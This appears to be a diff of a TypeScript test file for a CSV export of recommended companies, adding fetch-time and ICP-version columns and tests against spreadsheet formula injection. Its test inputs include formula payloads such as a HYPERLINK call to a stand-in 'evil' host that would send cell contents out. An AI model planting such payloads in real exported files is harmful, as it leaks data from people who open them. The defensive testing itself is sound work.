@@ -32,8 +32,15 @@ function parse(csv: string): string[][] {
   return rows;
 }
 
+const at = new Date('2026-05-12T09:00:00Z');
+const csvOf = (companies: readonly RecommendedCompany[]) =>
+  recommendationsCsv([{ companies, at, current: true }]);
+
 function tableOf(companies: readonly RecommendedCompany[]) {
-  const csv = recommendationsCsv(companies);
+  return rowsOf(csvOf(companies));
+}
+
+function rowsOf(csv: string) {
   expect(csv.charCodeAt(0)).toBe(0xfeff);
   const [head = [], ...rows] = parse(csv.slice(1));
   return rows.map((cells) => {
@@ -75,11 +82,25 @@ test('one row per person, with the company in each', () => {
     Departments: '',
     Country: '',
     LinkedIn: '',
+    Fetched: '2026-05-12T09:00:00.000Z',
+    'ICP version': 'current',
   });
   expect(rows[1]).toMatchObject({
     Domain: 'mueller.example',
     LinkedIn: 'https://linkedin.example/in/bo',
   });
+});
+
+test('each row says when it was fetched, and whether for the ICP that is saved now', () => {
+  const later = new Date('2026-05-13T09:00:00Z');
+  const csv = recommendationsCsv([
+    { companies: [{ name: 'Acme' }], at, current: false },
+    { companies: [{ name: 'Beta' }], at: later, current: true },
+  ]);
+  expect(rowsOf(csv).map((row) => [row['Company'], row['Fetched'], row['ICP version']])).toEqual([
+    ['Acme', at.toISOString(), 'earlier'],
+    ['Beta', later.toISOString(), 'current'],
+  ]);
 });
 
 test('companies without people, or without anything, have one row', () => {
@@ -96,13 +117,30 @@ test.each([
   ['+1'],
   ['-1+cmd'],
   ['@SUM(A1)'],
-  ['\t=1'],
-  ['\r=1'],
   ['  =1'],
   ['\n'],
   ['＝1'],
 ])('%j is text, not a formula', (name) => {
   expect(tableOf([{ name }])[0]?.['Company']).toBe(`'${name}`);
+});
+
+test.each([
+  ['CTO;=HYPERLINK("http://evil"&A1)', `CTO;'=HYPERLINK("http://evil"&A1)`],
+  ['CTO; +1', "CTO;' +1"],
+  ['CTO;"=1', `CTO;'"=1`],
+  ['CTO\n-1', "CTO\n'-1"],
+  ['CTO\t@A1', "CTO\t'@A1"],
+  ['\t=1', "'\t'=1"],
+  ['\r=1', "'\r'=1"],
+  ['CTO;;＝1;=2', "CTO;;'＝1;'=2"],
+  ['C-Level; R&D - x@y', 'C-Level; R&D - x@y'],
+])('%j is text too where semicolons or tabs part the cells', (title, expected) => {
+  expect(tableOf([{ people: [{ jobTitle: title }] }])[0]?.['Job title']).toBe(expected);
+});
+
+test('what is joined in a cell is text there too', () => {
+  const industries = ['Software', '=1'];
+  expect(tableOf([{ industries }])[0]?.['Industries']).toBe("Software;' =1");
 });
 
 const text = fc.option(
@@ -134,9 +172,29 @@ test('whatever the texts are, they come back, and none is a formula', () => {
         const cells = [row['Company'], row['First name'], row['Job title']];
         for (const [at, cell = ''] of cells.entries()) {
           const original = expected[index]?.[at] ?? '';
-          expect([original, `'${original}`]).toContain(cell);
+          expect(cell.replaceAll("'", '')).toBe(original.replaceAll("'", ''));
           expect(cell).not.toMatch(/^\s*[=+\-@]/);
         }
+      }
+    }),
+  );
+});
+
+test('however the file is cut, no piece of it is a formula', () => {
+  const company = fc.record({
+    name: text,
+    industries: fc.option(fc.array(fc.string({ unit: fc.constantFrom(...'=-;" a') })), {
+      nil: null,
+    }),
+    people: fc.array(fc.record({ jobTitle: text }), { maxLength: 2 }),
+  });
+  fc.assert(
+    fc.property(fc.array(company, { maxLength: 3 }), (companies) => {
+      // The worst reader: it cuts at every semicolon, tab and end of line, and sees no quotes.
+      for (const piece of csvOf(companies)
+        .slice(1)
+        .split(/[;\t\r\n]/)) {
+        expect(piece).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/u);
       }
     }),
   );
